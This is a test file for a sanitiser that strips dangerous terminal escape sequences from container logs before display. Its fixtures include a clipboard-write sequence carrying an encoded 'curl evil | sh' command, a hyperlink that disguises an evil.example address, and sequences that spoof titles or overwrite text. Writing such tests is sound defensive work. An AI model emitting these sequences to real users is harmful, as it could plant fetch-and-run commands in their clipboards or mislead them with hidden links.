import { describe, expect, it } from 'vitest';
import { terminalSafe } from '../../../src-main/cli/terminal-safe';

describe('terminalSafe: a container log printed on the user’s terminal', () => {
  it('drops what acts outside the text: clipboard writes, links, titles, DCS/APC strings, cursor moves', () => {
    const log = [
      'before\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007after',
      '\u001b]8;;https://evil.example/\u001b\\https://github.com/ok\u001b]8;;\u001b\\',
      '\u001b]0;fake title\u0007title gone',
      '\u001bP+q544e\u001b\\dcs gone',
      '\u001b_apc payload\u001b\\apc gone',
      '\u001b[2J\u001b[1;1Hpainted over\u001b[A\u001b[K',
      '\u009d52;c;eA==\u009cC1 osc gone',
    ].join('\n');
    const out = terminalSafe(log);
    expect(out).toBe(['beforeafter', 'https://github.com/ok', 'title gone', 'dcs gone', 'apc gone', 'painted over', 'C1 osc gone'].join('\n'));
    // eslint-disable-next-line no-control-regex -- checking that none is left
    expect(out).not.toMatch(/[\u001b\u0080-\u009f]/);
  });

  it('keeps colours, newlines and tabs; \\r becomes a new line; other controls show as ?', () => {
    expect(terminalSafe('\u001b[1;31mred\u001b[0m\tok\r\nnext\rover\u0008\u0000')).toBe('\u001b[1;31mred\u001b[0m\tok\nnext\nover??');
    // An escape cut at the end of the log goes too.
    expect(terminalSafe('tail\u001b')).toBe('tail');
    expect(terminalSafe('tail\u001b]52;c;unterminated')).toBe('tail');
  });
});
